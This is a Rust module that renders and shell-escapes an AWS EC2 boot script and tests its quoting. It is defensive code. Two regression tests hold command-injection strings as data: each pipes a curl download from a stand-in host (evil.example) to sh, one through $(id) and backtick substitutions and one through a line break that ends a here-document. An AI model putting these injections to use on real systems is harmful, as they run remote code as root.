//! The application instances' user data: the boot script rendered from
//! `templates/swiftcode/`, wrapped in `Fn::Sub` (for values CloudFormation
//! knows at deploy time) and `Fn::Base64`.
//!
//! Owns the template context and the deploy-time variables. The script's
//! text lives in the templates, embedded in the binary; every value it
//! fills in goes through an escaping filter there (`shell_quote`, or
//! `systemd_word` in unit files). Here each text value is also made a
//! literal for `Fn::Sub` and checked to be one line, so that neither
//! CloudFormation nor a here-document in the script reads it as anything
//! but text.

use hagen::blueprint::text::{TextTemplates, context};
use hagen::constructs::load_balanced_asg::UserData;
use hagen::error::SynthError;
use hagen::template::fns::sub_literal;
use hagen::template::fns::sub_with;
use hagen::template::{Attr, Expr, Value};

/// The templates, by their path in the source tree (errors name it).
const TEMPLATES: &[(&str, &str)] = &[
    (
        "templates/swiftcode/user-data.sh.j2",
        include_str!("../../../templates/swiftcode/user-data.sh.j2"),
    ),
    (
        "templates/swiftcode/app.env.j2",
        include_str!("../../../templates/swiftcode/app.env.j2"),
    ),
    (
        "templates/swiftcode/allowed-hosts.sh.j2",
        include_str!("../../../templates/swiftcode/allowed-hosts.sh.j2"),
    ),
    (
        "templates/swiftcode/allowed-hosts.service.j2",
        include_str!("../../../templates/swiftcode/allowed-hosts.service.j2"),
    ),
    (
        "templates/swiftcode/swiftcode.service.j2",
        include_str!("../../../templates/swiftcode/swiftcode.service.j2"),
    ),
    (
        "templates/swiftcode/leto.service.j2",
        include_str!("../../../templates/swiftcode/leto.service.j2"),
    ),
];

/// Where SwiftCode is installed on the image.
pub const SWIFTCODE_HOME: &str = "/opt/swiftcode";
/// Where Leto (with its virtualenv in `venv/`) is installed on the image.
pub const LETO_HOME: &str = "/opt/leto";
/// Leto's WSGI application.
pub const LETO_WSGI: &str = "leto.wsgi:application";
/// gunicorn workers for Leto.
pub const LETO_WORKERS: u32 = 3;

/// What the boot script needs to know.
pub struct BootScript<'a> {
    /// Project name (file and unit names).
    pub project: &'a str,
    /// Environment name; SwiftCode reads `<environment>.conf`.
    pub environment: &'a str,
    /// `postgres` or `mysql`.
    pub db_engine: &'a str,
    /// SwiftCode's HTTP port (the load balancer's target).
    pub swiftcode_port: u16,
    /// Leto's HTTP port.
    pub leto_port: u16,
    /// The path Leto is served under through the load balancer.
    pub leto_path: &'a str,
    /// Path the health check requests.
    pub health_check_path: &'a str,
    /// The resource to `cfn-signal`, when instances report their health to
    /// CloudFormation.
    pub signal_resource: Option<&'a str>,
    /// The database's address.
    pub database_address: Attr<String>,
    /// The database's port.
    pub database_port: Attr<String>,
    /// ARN of the secret holding the database's master password.
    pub database_secret_arn: Attr<String>,
}

impl BootScript<'_> {
    /// The script's text, with `${Name}` placeholders for `Fn::Sub`.
    pub fn render(&self) -> Result<String, SynthError> {
        let templates = TextTemplates::new(TEMPLATES)?;
        let text = |name: &str, value: &str| text_value(name, value);
        templates.render(
            "templates/swiftcode/user-data.sh.j2",
            context! {
                project => text("project", self.project)?,
                environment => text("environment", self.environment)?,
                db_engine => text("db_engine", self.db_engine)?,
                swiftcode_port => self.swiftcode_port,
                leto_port => self.leto_port,
                leto_path => text("leto_path", self.leto_path)?,
                health_check_path => text("health_check_path", self.health_check_path)?,
                cfn_signal => self.signal_resource.is_some(),
                signal_resource => text("signal_resource", self.signal_resource.unwrap_or_default())?,
                swiftcode_home => text("swiftcode_home", SWIFTCODE_HOME)?,
                leto_home => text("leto_home", LETO_HOME)?,
                leto_wsgi => text("leto_wsgi", LETO_WSGI)?,
                leto_workers => LETO_WORKERS,
            },
        )
    }

    /// The launch template's user data: the script rendered now, and its
    /// `!Sub [script, variables]` built when `LoadBalancedAsg` hands over
    /// the load balancer it creates (the construct base64-encodes it).
    pub fn user_data(&self) -> Result<UserData, SynthError> {
        let text = self.render()?;
        let (address, port, secret) = (
            self.database_address.clone(),
            self.database_port.clone(),
            self.database_secret_arn.clone(),
        );
        Ok(UserData::with_load_balancer(move |load_balancer| {
            let variables = sub_variables(load_balancer.dns_name(), &address, &port, &secret);
            Ok(Value::from(sub_with(text.clone(), variables)))
        }))
    }
}

/// A text value for the script: one line (a line break could end one of
/// the script's here-documents early, and whatever followed would run as
/// root), made a literal for `Fn::Sub` (so that a `${` in it stays text).
/// The templates quote it for the shell or refuse it in unit files.
fn text_value(name: &str, value: &str) -> Result<String, SynthError> {
    if let Some(c) = value.chars().find(|c| c.is_control()) {
        return Err(SynthError::props(
            "SwiftCode boot script",
            format!(
                "{name} {value:?} holds the control character {c:?}; boot script values are one line of text"
            ),
        ));
    }
    Ok(sub_literal(value))
}

/// The deploy-time variables of the script's `Fn::Sub` (parameters and
/// pseudo parameters such as `${DomainName}` and `${AWS::Region}` need
/// none), in the order they are written.
fn sub_variables(
    load_balancer_dns: Attr<String>,
    database_address: &Attr<String>,
    database_port: &Attr<String>,
    database_secret_arn: &Attr<String>,
) -> Vec<(&'static str, Expr)> {
    vec![
        ("LoadBalancerDns", load_balancer_dns.into()),
        ("DatabaseAddress", database_address.into()),
        ("DatabasePort", database_port.into()),
        ("DatabaseSecretArn", database_secret_arn.into()),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    fn script(signal: Option<&str>) -> BootScript<'_> {
        BootScript {
            project: "swiftcode",
            environment: "stage",
            db_engine: "postgres",
            swiftcode_port: 9000,
            leto_port: 8000,
            leto_path: "/leto",
            health_check_path: "/health",
            signal_resource: signal,
            database_address: Attr::get_att("Db", "Endpoint.Address"),
            database_port: Attr::get_att("Db", "Endpoint.Port"),
            database_secret_arn: Attr::get_att("Db", "MasterUserSecret.SecretArn"),
        }
    }

    /// Every `${...}` placeholder in a text (`${!...}` is a literal).
    fn placeholders(text: &str) -> Vec<&str> {
        let mut out = Vec::new();
        let mut rest = text;
        while let Some(i) = rest.find("${") {
            let tail = &rest[i + 2..];
            let end = tail.find('}').expect("closed placeholder");
            if !tail.starts_with('!') {
                out.push(&tail[..end]);
            }
            rest = &tail[end..];
        }
        out
    }

    /// The value a shell assignment line of the script (`name=...`) gives
    /// its variable, as `/bin/sh` computes it.
    fn shell_value(text: &str, name: &str) -> String {
        let line = text
            .lines()
            .find(|l| l.starts_with(&format!("{name}=")))
            .unwrap_or_else(|| panic!("no assignment of {name}"));
        let out = std::process::Command::new("/bin/sh")
            .arg("-c")
            .arg(format!("{line}\nprintf '%s' \"${name}\""))
            .output()
            .expect("/bin/sh runs");
        assert!(out.status.success(), "{out:?}");
        String::from_utf8(out.stdout).expect("utf-8")
    }

    #[test]
    fn services_start_at_every_boot_with_the_environment_config() {
        let text = script(None).render().expect("renders");
        assert!(text.starts_with("#!/bin/bash\n"));
        assert!(text.contains(
            "ExecStart=/opt/swiftcode/bin/swiftcode -Dconfig.resource=stage.conf -Dhttp.port=9000"
        ));
        assert!(text.contains("gunicorn --bind 0.0.0.0:8000"));
        assert!(text.contains("Environment=SCRIPT_NAME=/leto"));
        assert!(text.contains("WantedBy=multi-user.target"));
        assert!(text.contains(
            "systemctl enable --now \"$project-allowed-hosts.service\" swiftcode.service leto.service"
        ));
        assert!(text.contains("\nproject='swiftcode'\nenvironment='stage'\n"));
        assert!(
            text.contains("\nAPP_ENV='stage'\n"),
            "systemd reads quoted values"
        );
        assert!(text.contains("Requires=swiftcode-allowed-hosts.service\n"));
        assert!(text.contains("grep -v -e '^@reboot.*swiftcode'"));
        assert!(!text.contains("cfn-signal"));
    }

    #[test]
    fn allowed_hosts_cover_the_load_balancer_the_domain_and_the_instance() {
        let text = script(None).render().expect("renders");
        assert!(
            text.contains("X-aws-ec2-metadata-token-ttl-seconds"),
            "IMDSv2"
        );
        assert!(text.contains(
            "hosts=\"${LoadBalancerDns} ${DomainName} $private_ip localhost 127.0.0.1\""
        ));
        assert!(text.contains("DJANGO_ALLOWED_HOSTS="));
        assert!(text.contains("-Dplay.filters.hosts.allowed.$index=$host"));
    }

    #[test]
    fn every_placeholder_is_a_variable_a_parameter_or_a_pseudo_parameter() {
        let boot = script(Some("AppAsg"));
        let text = boot.render().expect("renders");
        let vars: Vec<&str> = sub_variables(
            Attr::get_att("Lb", "DNSName"),
            &boot.database_address,
            &boot.database_port,
            &boot.database_secret_arn,
        )
        .iter()
        .map(|(k, _)| *k)
        .collect();
        for p in placeholders(&text) {
            assert!(
                vars.contains(&p) || p == "DomainName" || p.starts_with("AWS::"),
                "unexpected placeholder ${{{p}}}: shell variables must be written without braces"
            );
        }
    }

    #[test]
    fn cfn_signal_reports_the_health_of_the_named_resource() {
        let text = script(Some("AppAsg")).render().expect("renders");
        assert!(text.contains("--resource 'AppAsg'"));
        assert_eq!(
            shell_value(&text, "health_url"),
            "http://127.0.0.1:9000/health"
        );
    }

    /// Regression: a `health_check_path` of `"; curl ... | sh;` was pasted
    /// into the root boot script unquoted. The configuration refuses such a
    /// path now (see `config.rs`); should one get here anyway, it reaches
    /// the shell as one word, the URL curl is asked for, and nothing runs.
    #[test]
    fn health_check_path_shell_injection_stays_one_quoted_word() {
        let hostile = "/\"; curl -fsS https://evil.example/x | sh; echo '$(id)`id`";
        let mut boot = script(Some("AppAsg"));
        boot.health_check_path = hostile;
        let text = boot.render().expect("renders");
        assert_eq!(
            shell_value(&text, "health_url"),
            format!("http://127.0.0.1:9000{hostile}")
        );
    }

    #[test]
    fn a_placeholder_in_a_value_stays_text_for_fn_sub() {
        let mut boot = script(Some("AppAsg"));
        boot.health_check_path = "/${AWS::AccountId}";
        let text = boot.render().expect("renders");
        assert!(
            text.contains("'/${!AWS::AccountId}'"),
            "Fn::Sub turns ${{! back into ${{ and substitutes nothing"
        );
        assert!(!placeholders(&text).contains(&"AWS::AccountId"));
    }

    #[test]
    fn a_value_with_a_line_break_is_refused_before_it_can_end_a_here_document() {
        let mut boot = script(None);
        boot.environment = "stage\nENV\ncurl https://evil.example | sh";
        let err = boot.render().expect_err("a line break");
        assert!(
            err.to_string().contains("environment") && err.to_string().contains("'\\n'"),
            "{err}"
        );
    }

    #[test]
    fn the_script_has_no_trailing_spaces_so_it_prints_as_a_yaml_block() {
        let text = script(Some("AppAsg")).render().expect("renders");
        for (i, line) in text.lines().enumerate() {
            assert!(
                !line.ends_with(' ') && !line.ends_with('\t'),
                "line {} ends in blank space: {line:?}",
                i + 1
            );
        }
    }
}
